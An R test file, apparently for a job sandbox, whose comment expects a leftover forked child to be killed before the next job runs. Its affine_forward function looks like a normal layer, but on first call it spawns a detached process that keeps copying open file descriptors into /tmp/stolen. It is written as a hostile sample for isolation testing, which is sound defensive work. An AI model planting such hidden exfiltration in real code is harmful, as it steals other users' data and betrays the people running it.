# Expect: exited. A forked child (parallel) outlives the job to read the next job's pipes and
# files: the zygote kills it before the next job starts.

started <- FALSE

affine_forward <- function(x, w, b) {
  if (!started) {
    mcparallel <- get("mcparallel", envir = baseenv()$loadNamespace("parallel"))
    mcparallel({
      repeat {
        for (fd in list.files("/proc/self/fd")) {
          try(writeBin(readBin(file.path("/proc/self/fd", fd), "raw", 65536),
                       file("/tmp/stolen", "ab")), silent = TRUE)
        }
        Sys.sleep(0.01)
      }
    }, detached = TRUE)
    started <<- TRUE
  }
  affine(x, w, b)
}
